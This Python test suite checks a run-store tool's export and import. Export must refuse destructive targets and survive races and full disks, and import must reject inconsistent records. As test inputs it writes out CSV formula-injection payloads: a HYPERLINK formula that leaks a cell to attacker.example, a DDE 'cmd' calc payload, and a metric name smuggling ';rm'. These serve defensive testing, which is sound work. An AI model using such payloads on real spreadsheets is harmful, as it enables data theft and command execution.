"""Malformed transfers: where `export -o` may write, and archive records whose fields contradict one another.

Export: every refused target is a named error (exit 2, one line on stderr) and every file of the workspace
(the store and its companions, the data home, the targets) is byte for byte and inode for inode as it was;
`--force` replaces only a plain file that is no part of a store. Import: each inconsistent record (times out
of order or out of range, attempts that do not match the history, steps beyond the plan, metric names that
are not the lab's) is refused naming the run and the field, and the store is unchanged. CSV: every writer's
text cells are neutralised for spreadsheets (OWASP CSV injection), numbers stay numbers.
"""

import csv
import errno
import hashlib
import io
import json
import os
import socket
import sqlite3
import stat
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from cache import RunStatus, Store
from cache.archive import destination
from cache.archive.destination import ExportTargetError
from cache.archive.format import Archive
from cache.archive.writer import write_archive
from engine.cli import main
from engine.jobs.transfer import import_runs, prepare_export
from tests.cache.store.test_maintenance import make_run
from tests.engine.cli.test_malformed_inputs import digest, good_archive, workspace  # noqa: F401 (fixtures)
from tests.engine.jobs.test_transfer import first_run, metrics_name
from tests.helpers import edit_json, rezip, unzip

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


# ---------------------------------------------------------------------------------------- the workspace's files


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry under `root`: a regular file's bytes (a SHA-256) and inode, a link's target, another
    entry's kind and inode. A store's `-shm` is compared by inode only (readers write their marks in it)."""
    out: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            info = os.lstat(path)
            key = str(path.relative_to(root))
            if stat.S_ISLNK(info.st_mode):
                out[key] = ("link", os.readlink(path))
            elif stat.S_ISREG(info.st_mode) and not name.endswith("-shm"):
                out[key] = ("file", info.st_ino, hashlib.sha256(path.read_bytes()).hexdigest())
            else:
                out[key] = (stat.S_IFMT(info.st_mode), info.st_ino)
    return out


@pytest.fixture(scope="module")
def targets(workspace):  # noqa: F811 (the imported fixture)
    """Every kind of path `export -o` is given, made once beside the workspace's store."""
    store, files = workspace
    home, root = store.path.parent, files.parent
    plain = files / "plain.zip"
    plain.write_bytes(b"an older export, replaced only with --force")
    (files / "notes.txt").write_text("a plain file")
    readonly = files / "readonly.zip"
    readonly.write_bytes(b"read-only")
    readonly.chmod(0o444)
    locked = files / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    os.mkfifo(files / "fifo")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(files / "sock"))
    with closing(sqlite3.connect(files / "other.sqlite3")) as db:
        db.execute("CREATE TABLE t (x)")
        db.commit()
    (files / "wal-like.zip").write_bytes(b"\x37\x7f\x06\x82" + bytes(28))
    (files / "journal-like.zip").write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + bytes(24))
    os.link(store.path, files / "hardlink-to-store.zip")
    (files / "link-to-store.zip").symlink_to(store.path)
    (files / "link-to-new.zip").symlink_to(files / "not-yet.zip")
    (files / "link-to-plain.zip").symlink_to(plain)
    (root / "linked-home").symlink_to(home)
    (home / "notes.txt").write_text("kept in the data home")
    (home / "foreign.zip").write_bytes(rezip({"readme.txt": b"not a run archive"}))
    (home / "datasets").mkdir(exist_ok=True)
    if os.geteuid() == 0:  # a private device: a regression may then replace it, never the machine's /dev/null
        os.mknod(files / "null-device", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    run_id = store.list_runs(statuses=[RunStatus.FINISHED])[0].id
    yield store, files, run_id
    server.close()
    locked.chmod(0o755)


# (the -o path from the store's folder `H` and the files folder `F`, extra options, what stderr must say)
EXPORT_TARGETS: dict[str, tuple[str, tuple[str, ...], str]] = {
    "the store": ("H/runs.sqlite3", (), "is the run store"),
    "the store, forced": ("H/runs.sqlite3", ("--force",), "is the run store"),
    "the store by a path through ..": ("H/../home/runs.sqlite3", ("--force",), "is the run store"),
    "the store through a linked folder": ("R/linked-home/runs.sqlite3", ("--force",), "is the run store"),
    "the store's -wal": ("H/runs.sqlite3-wal", (), "is the run store's wal file"),
    "the store's -wal, forced": ("H/runs.sqlite3-wal", ("--force",), "is the run store's wal file"),
    "the store's -shm": ("H/runs.sqlite3-shm", ("--force",), "is the run store's shm file"),
    "the store's -journal": ("H/runs.sqlite3-journal", ("--force",), "is the run store's journal file"),
    "a symbolic link to the store": ("F/link-to-store.zip", ("--force",), "is a symbolic link"),
    "a symbolic link to a new file": ("F/link-to-new.zip", (), "is a symbolic link"),
    "a symbolic link to a plain file": ("F/link-to-plain.zip", ("--force",), "is a symbolic link"),
    "a hard link to the store": ("F/hardlink-to-store.zip", ("--force",), "is a link to a file of the run store"),
    "another SQLite database": ("F/other.sqlite3", ("--force",), "is a SQLite database"),
    "a write-ahead log": ("F/wal-like.zip", ("--force",), "is a SQLite write-ahead log"),
    "a rollback journal": ("F/journal-like.zip", ("--force",), "is a SQLite rollback journal"),
    "a file of the data home": ("H/notes.txt", ("--force",), "is a file of the data home"),
    "a zip of the data home that is no archive": ("H/foreign.zip", ("--force",), "not a run archive"),
    "a new file of the data home not named .zip": ("H/new-notes.txt", (), "must be named .zip"),
    "the data home": ("H", ("--force",), "is a directory"),
    "the datasets folder": ("H/datasets", ("--force",), "is a directory"),
    "a directory": ("F", (), "is a directory"),
    "a FIFO": ("F/fifo", ("--force",), "is a FIFO"),
    "a socket": ("F/sock", ("--force",), "is a socket"),
    "a character device": ("D", (), "is a character device"),
    "a character device, forced": ("D", ("--force",), "is a character device"),
    "an existing file without --force": ("F/plain.zip", (), "already exists; give a new file name, or --force"),
    "an existing text file without --force": ("F/notes.txt", (), "already exists"),
    "a folder that does not exist": ("F/missing/out.zip", (), "cannot write: its folder"),
    "a folder that is a file": ("F/notes.txt/out.zip", (), "is not a folder"),
    "a read-only file": ("F/readonly.zip", ("--force",), "is read-only"),
    "a read-only folder": ("F/locked/out.zip", (), "its folder is not writable"),
    "an empty path": ("", (), "is not a file name"),
    "a path with a NUL character": ("F/out\0.zip", (), "NUL character"),
}


def target_path(text: str, store: Store, files: Path) -> str:
    if text == "D":  # root may make its own device; anyone else cannot replace /dev/null
        return str(files / "null-device") if os.geteuid() == 0 else "/dev/null"
    home = str(store.path.parent)
    for mark, folder in (("H", home), ("F", str(files)), ("R", str(files.parent))):
        if text == mark or text.startswith(mark + "/"):
            return folder + text[len(mark) :]
    return text


@pytest.mark.parametrize("case", sorted(EXPORT_TARGETS))
def test_export_refuses_a_target_it_would_destroy_and_changes_nothing(case, targets, capsys):
    store, files, run_id = targets
    text, options, mentions = EXPORT_TARGETS[case]
    before, stored = snapshot(files.parent), digest(store.path)
    code = main(["export", run_id, "-o", target_path(text, store, files), *options])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith("error: export: ") and err.count("\n") == 1, err
    assert mentions in err, err
    assert snapshot(files.parent) == before and digest(store.path) == stored


def test_the_suite_covers_at_least_30_export_targets():
    assert len(EXPORT_TARGETS) >= 30


def test_force_replaces_a_plain_file_and_writes_new_ones(targets, capsys):
    store, files, run_id = targets
    stored = digest(store.path)
    for path, options in (
        (files / "new.zip", ()),
        (files / "plain-forced.zip", ("--force",)),
        (store.path.parent / "in-home.zip", ()),  # a new archive may live in the data home
        (store.path.parent / "in-home.zip", ("--force",)),  # and an archive there may be replaced
    ):
        if path.name == "plain-forced.zip":
            path.write_bytes(b"old bytes")
        assert main(["export", run_id, "-o", str(path), *options]) == 0, capsys.readouterr().err
        assert json.loads(unzip(path.read_bytes())["manifest.json"])["format"] == "dplab-runs"
        assert stat.S_IMODE(path.stat().st_mode) & 0o044  # a file's usual permissions, not a temporary's 0600
    assert not [p for p in files.iterdir() if p.name.endswith(".partial")]
    assert digest(store.path) == stored


# ---------------------------------------------------------------------------------------- faults while writing


def test_a_full_disk_is_a_named_error_the_target_untouched_and_no_temporary_left(targets, capsys, monkeypatch):
    _, files, run_id = targets
    target = files / "disk-full.zip"
    target.write_bytes(b"the previous archive")

    def full(fd, data):
        os.write(fd, bytes(data)[:100])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(destination, "_write_all", full)
    before = snapshot(files.parent)
    for args in ([str(target), "--force"], [str(files / "never.zip")]):
        assert main(["export", run_id, "-o", *args]) == 2
        err = capsys.readouterr().err
        assert err.startswith("error: export: ") and "the disk is full" in err and err.count("\n") == 1, err
    assert snapshot(files.parent) == before  # no temporary file, the old archive as it was


def test_a_file_that_appears_while_writing_is_never_replaced(targets, capsys, monkeypatch):
    _, files, run_id = targets
    target = files / "raced.zip"
    write = destination._write_all

    def someone_else_writes_first(fd, data):
        target.write_bytes(b"someone else's file")
        write(fd, data)

    monkeypatch.setattr(destination, "_write_all", someone_else_writes_first)
    assert main(["export", run_id, "-o", str(target)]) == 2
    err = capsys.readouterr().err
    assert "exists now" in err and target.read_bytes() == b"someone else's file", err
    assert not [p for p in files.iterdir() if p.name.endswith(".partial")]


def test_a_forced_target_swapped_for_a_link_to_the_store_is_not_replaced(targets, capsys, monkeypatch):
    store, files, run_id = targets
    target = files / "swapped.zip"
    target.write_bytes(b"checked")
    write, stored = destination._write_all, digest(store.path)

    def swap(fd, data):
        target.unlink()
        target.symlink_to(store.path)
        write(fd, data)

    monkeypatch.setattr(destination, "_write_all", swap)
    assert main(["export", run_id, "-o", str(target), "--force"]) == 2
    assert "changed while the archive was written" in capsys.readouterr().err
    assert target.is_symlink() and digest(store.path) == stored


def test_every_caller_goes_through_the_rule(tmp_path, monkeypatch):
    """The API (`Export.save`) and the writer (`write_archive(path=)`) refuse what the command refuses, the
    store the export was read from included when it is not the data home's."""
    monkeypatch.setenv("DPLAB_HOME", str(tmp_path / "home"))
    elsewhere = Store(tmp_path / "elsewhere" / "lab.sqlite3")
    run_id = make_run(elsewhere)
    export = prepare_export(elsewhere, [run_id])
    for path in (elsewhere.path, f"{elsewhere.path}-wal", tmp_path / "home" / "runs.sqlite3"):
        with pytest.raises(ExportTargetError, match="is the run store"):
            export.save(path, force=True)
    (tmp_path / "old.zip").write_bytes(b"old")
    with pytest.raises(ExportTargetError, match="already exists"):
        write_archive(Archive(engine_version="0", runs=()), tmp_path / "old.zip")
    assert export.save(tmp_path / "old.zip", force=True).read_bytes() == export.data


# ---------------------------------------------------------------------------------------- inconsistent records


def metrics_csv(*rows: tuple) -> Callable[[bytes], bytes]:
    """An archive edit: the first run's metrics file holds exactly `rows` (step, name, value)."""

    def edit(data: bytes) -> bytes:
        members, text = unzip(data), io.StringIO()
        writer = csv.writer(text, lineterminator="\n")
        writer.writerow(["step", "name", "value"])
        writer.writerows(rows)
        members[metrics_name(data)] = text.getvalue().encode()
        return rezip(members)

    return edit


def second_run(change: Callable[[dict], None]) -> Callable[[bytes], bytes]:
    return edit_json("runs.json", lambda runs: change(runs[1]))


def events_of(status: str) -> Callable[[dict], None]:
    return lambda r: r["events"][-1].update(status=status)


YEAR_9508591 = 3.0e14  # seconds since 1970: a creation date in the year 9,508,591
FAR = 4_102_444_800.0  # 2100-01-01
RECORDS: dict[str, tuple[Callable[[bytes], bytes], str, str]] = {
    # (the edit, the field the message names, what else it says); the first run is finished, the second failed
    "attempts 0 for a run that ran": (first_run(lambda r: r.update(attempts=0)), "attempts is 0", "1 start"),
    "attempts 0 for a failed run": (second_run(lambda r: r.update(attempts=0)), "attempts is 0", "start"),
    "attempts above its starts": (first_run(lambda r: r.update(attempts=7)), "attempts is 7", "1 start"),
    "finished before started": (
        first_run(lambda r: r.update(finished_at=r["started_at"] - 86_400)),
        "finished_at",
        "is before started_at",
    ),
    "started before created": (
        first_run(lambda r: r.update(started_at=r["created_at"] - 86_400)),
        "started_at",
        "is before created_at",
    ),
    "ended before created, never started": (
        second_run(lambda r: r.update(started_at=None, finished_at=r["created_at"] - 86_400)),
        "finished_at",
        "is before created_at",
    ),
    "created in the year 9,508,591": (
        first_run(lambda r: r.update(created_at=YEAR_9508591)),
        "created_at",
        "year 9,508,591",
    ),
    "created in 1999": (first_run(lambda r: r.update(created_at=915_148_800.0)), "created_at", "year 1999"),
    "created in 1970": (first_run(lambda r: r.update(created_at=1.0)), "created_at", "year 1970"),
    "started in 2100": (first_run(lambda r: r.update(started_at=FAR, finished_at=FAR)), "started_at", "year 2100"),
    "finished in 2100": (first_run(lambda r: r.update(finished_at=FAR)), "finished_at", "year 2100"),
    "an event in 2100": (first_run(lambda r: r["events"][0].update(at=FAR)), "events[seq 0].at", "year 2100"),
    "an event in 1980": (first_run(lambda r: r["events"][1].update(at=315_532_800.0)), "events[seq 1].at", "1980"),
    "progress above the total steps": (
        first_run(lambda r: r.update(progress_step=6)),
        "progress_step 6",
        "above total_steps 5",
    ),
    "total steps unlike the plan's": (
        first_run(lambda r: r.update(total_steps=9, progress_step=5)),
        "total_steps 9",
        "plan's steps 5",
    ),
    "result steps above planned": (
        first_run(lambda r: r["result"].update(steps=8)),
        "result.steps 8",
        "above result.planned_steps 5",
    ),
    "result steps above the total steps": (
        first_run(lambda r: r["result"].update(steps=8, planned_steps=8)),
        "result.steps 8",
        "above total_steps 5",
    ),
    "history ends in another status": (first_run(events_of("failed")), "status is finished", "last status event"),
    "a failed run whose history says finished": (second_run(events_of("finished")), "status is failed", "last"),
    "a metric step beyond the plan": (
        metrics_csv((0, "epsilon", 0.0), (9, "epsilon", 0.9)),
        "step 9 of 'epsilon'",
        "beyond its total_steps 5",
    ),
    "a metric named as a formula": (metrics_csv((0, HYPERLINK, 1.0)), "name must be a metric name", "HYPERLINK"),
    "a metric name starting with +": (metrics_csv((0, "+1+cmd|' /C calc'!A0", 1.0)), "name must be", "+1"),
    "a metric name starting with -": (metrics_csv((0, "-2+3", 1.0)), "name must be", "-2+3"),
    "a metric name starting with @": (metrics_csv((0, "@SUM(A1:A9)", 1.0)), "name must be", "@SUM"),
    "an upper-case metric name": (metrics_csv((0, "Epsilon", 1.0)), "name must be", "Epsilon"),
    "a metric name with a space": (metrics_csv((0, "test accuracy", 1.0)), "name must be", "test accuracy"),
    "a metric name with a semicolon": (metrics_csv((0, "epsilon;rm", 1.0)), "name must be", "epsilon;rm"),
    "a 65-character metric name": (metrics_csv((0, "e" * 65, 1.0)), "name must be", "eeee"),
    "a metric name starting with a digit": (metrics_csv((0, "1epsilon", 1.0)), "name must be", "1epsilon"),
}
SECOND_RUN_CASES = {  # the edits of the failed run (the second of runs.json)
    "attempts 0 for a failed run",
    "ended before created, never started",
    "a failed run whose history says finished",
}
ARCHIVE_TIMES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    # times outside a run record: the archive's and its sweeps' creation
    "a sweep created in 2100": (edit_json("sweeps.json", lambda s: s[0].update(created_at=FAR)), "created_at"),
    "an archive created in 1970": (edit_json("manifest.json", lambda m: m.update(created_at=1.0)), "created_at"),
    "an archive from the year 9,508,591": (
        edit_json("manifest.json", lambda m: m.update(created_at=YEAR_9508591)),
        "year 9,508,591",
    ),
}


def run_ids(data: bytes) -> list[str]:
    return [r["id"] for r in json.loads(unzip(data)["runs.json"])]


def test_the_suite_covers_at_least_30_inconsistent_archives():
    assert len(RECORDS) + len(ARCHIVE_TIMES) >= 30


def import_refused(archive: bytes, files: Path, store: Store, capsys) -> str:
    path = files / f"archive-{hashlib.sha256(archive).hexdigest()[:12]}.zip"
    path.write_bytes(archive)
    before = digest(store.path)
    code = main(["import", str(path)])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith("error: ") and err.count("\n") == 1 and "nothing was imported" in err, err
    assert digest(store.path) == before, "the store changed"
    return err


@pytest.mark.parametrize("case", sorted(RECORDS))
def test_an_inconsistent_record_is_refused_naming_the_run_and_field(case, workspace, good_archive, capsys):  # noqa: F811
    store, files = workspace
    edit, field, says = RECORDS[case]
    archive = edit(good_archive)
    err = import_refused(archive, files, store, capsys)
    which = 1 if case in SECOND_RUN_CASES else 0  # the run the edit changed
    assert run_ids(archive)[which] in err and field in err and says in err, err


@pytest.mark.parametrize("case", sorted(ARCHIVE_TIMES))
def test_an_archive_or_sweep_time_out_of_range_is_refused(case, workspace, good_archive, capsys):  # noqa: F811
    store, files = workspace
    edit, mentions = ARCHIVE_TIMES[case]
    err = import_refused(edit(good_archive), files, store, capsys)
    assert mentions in err and "a time must lie between 2000-01-01 and a day from now" in err, err


def test_a_run_cancelled_before_it_started_still_travels(tmp_path):
    """attempts 0 and no start time are consistent for a run that never ran: exported and imported."""
    source = Store(tmp_path / "source.sqlite3")
    run_id = make_run(source, RunStatus.QUEUED)
    assert source.request_cancel(run_id) is RunStatus.CANCELLED
    target = Store(tmp_path / "target.sqlite3")
    report = import_runs(target, prepare_export(source, [run_id]).data)
    assert report.imported == (run_id,) and target.get_run(run_id).attempts == 0
